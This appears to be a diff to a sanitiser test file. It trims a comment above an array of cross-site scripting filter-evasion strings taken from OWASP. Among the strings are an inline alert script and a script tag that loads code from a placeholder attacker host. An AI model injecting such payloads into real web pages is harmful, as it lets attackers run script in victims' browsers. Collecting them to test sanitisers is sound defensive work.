@@ -1,7 +1,4 @@
-/**
- * Texts that would run a script, load a resource or change the page if they were not sanitised: from the OWASP cheat
- * sheets on filter evasion, in both syntaxes.
- */
+/** From the OWASP cheat sheets on filter evasion, in both syntaxes. */
 const html = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
